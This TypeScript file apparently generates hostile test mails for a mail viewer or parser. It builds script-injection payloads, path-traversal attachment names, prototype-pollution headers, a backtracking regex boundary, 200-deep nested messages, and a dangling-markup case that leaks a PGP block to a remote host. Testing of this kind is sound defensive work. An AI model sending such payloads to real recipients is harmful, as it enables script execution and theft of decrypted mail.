import { escapedName, type HostileFile, type Maker, makeFiles } from './hostileFile';

interface MadeMail {
  readonly headers?: readonly string[];
  readonly subject?: string;
  readonly body?: readonly string[];
}

function mail({ headers = [], subject = 'Hostile mail', body = ['press here'] }: MadeMail): Uint8Array {
  const type = headers.some((line) => /^content-type/i.test(line)) ? [] : ['Content-Type: text/plain'];
  const lines = [
    'MIME-Version: 1.0',
    'From: Desk <desk@example.org>',
    `Subject: ${subject}`,
    ...type,
    ...headers,
  ];
  return Buffer.from([...lines, '', ...body, ''].join('\r\n'));
}

const multipart = (...parts: readonly (readonly string[])[]) => ({
  headers: ['Content-Type: multipart/mixed; boundary="b"'],
  body: [...parts.flatMap((part) => ['--b', ...part]), '--b--'],
});
const text = ['Content-Type: text/plain', '', 'press here'];
const attachment = (name: string, content: string) => [
  `Content-Type: text/html; name="${name}"`,
  `Content-Disposition: attachment; filename="${name}"`,
  '',
  content,
];
const page = (markup: string) => ({
  headers: ['Content-Type: text/html'],
  body: [`<html><body>${markup}</body></html>`],
});

/** A message in a message in a message. */
function nested(depth: number): string[] {
  const lines: string[] = [];
  for (let step = 0; step < depth; step++)
    lines.push('MIME-Version: 1.0', `Subject: ${step}`, 'Content-Type: message/rfc822', '');
  return [...lines, 'Subject: the last', '', 'press here'];
}

const makers: Readonly<Record<string, Maker>> = {
  'a page.eml': ({ script, far }) =>
    mail(
      page(
        `<p>press here</p><script>${script}</script><img src="${far}/seen.png" onerror="${script}"><a href="javascript:${script}">press here</a>`,
      ),
    ),
  'markup in its headers.eml': ({ script }) =>
    mail({
      subject: `=?utf-8?B?${Buffer.from(`"><img src=x: onerror=${script}>`).toString('base64')}?=`,
      headers: [
        `Reply-To: "<script>${script}</script>" <a@example.org>`,
        '__proto__: polluted',
        'constructor: x',
      ],
    }),
  'attachments that lead out.eml': ({ script }) =>
    mail(
      multipart(
        text,
        attachment(`../../${escapedName}.html`, `<script>${script}</script><p>press here</p>`),
        attachment(`/tmp/${escapedName}.html`, `<p onmouseover=${script}>press here too</p>`),
        attachment(`..\\\\..\\\\${escapedName}.html`, `<p onclick=${script}>press here as well</p>`),
      ),
    ),
  'attachments named after markup.eml': ({ script }) =>
    mail(
      multipart(text, [
        'Content-Type: text/html',
        `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(`<img src=x: onerror=${script}>.html`)}`,
        '',
        `<p>press here ${script}</p>`,
      ]),
    ),
  'parts that name each other.eml': ({ script }) =>
    mail({
      headers: ['Content-Type: multipart/related; boundary="b"'],
      body: [
        '--b',
        'Content-Type: text/html',
        'Content-ID: <a>',
        '',
        '<p>press here</p><img src="cid:b"><iframe src="cid:a"></iframe>',
        '--b',
        'Content-Type: image/svg+xml',
        'Content-ID: <b>',
        '',
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`,
        '--b--',
      ],
    }),
  'messages two hundred deep.eml': () => Buffer.from(nested(200).join('\r\n')),
  'a boundary that is a pattern.eml': () =>
    mail({
      headers: ['Content-Type: multipart/mixed; boundary="(a+)+$"'],
      body: ['--(a+)+$', ...text, `--${'a'.repeat(5_000)}`, '--(a+)+$--'],
    }),
  'a body elsewhere.eml': ({ far }) =>
    mail(
      multipart(text, [
        `Content-Type: message/external-body; access-type=URL; URL="${far}/body"`,
        '',
        'Content-Type: text/html',
        '',
        '',
      ]),
    ),
  'direct exfiltration.eml': ({ far }) =>
    mail(
      page(
        `<p>press here</p><img src="${far}/?before='><p>-----BEGIN PGP MESSAGE-----</p><img src="${far}/after"><style>@import '${far}/s.css'</style>`,
      ),
    ),
  'a page in one file.mhtml': ({ script, far }) =>
    Buffer.from(
      [
        'From: <Saved by Blink>',
        `Snapshot-Content-Location: javascript:${script}`,
        'Subject: A page in one file',
        'MIME-Version: 1.0',
        'Content-Type: multipart/related; type="text/html"; boundary="b"',
        '',
        '--b',
        'Content-Type: text/html',
        'Content-Location: https://example.org/',
        '',
        `<html><body><h1>press here</h1><p>press here</p><script src="cid:s"></script><iframe src="${far}/f"></iframe></body></html>`,
        '--b',
        'Content-Type: text/javascript',
        'Content-ID: <s>',
        '',
        script,
        '--b--',
        '',
      ].join('\r\n'),
    ),
  'a mailbox.mbox': ({ script }) =>
    Buffer.from(
      `From a@example.org Sat Jul 12 10:00:00 2031\nSubject: <script>${script}</script>\n\npress here\n\nFrom b@example.org Sat Jul 12 10:00:00 2031\nSubject: __proto__\nContent-Type: text/html\n\n<p onmouseover=${script}>press here twice</p>\n`,
    ),
};

/** Mails, numbered from 401. */
export const mailFiles = (): HostileFile[] => makeFiles(makers, 401);
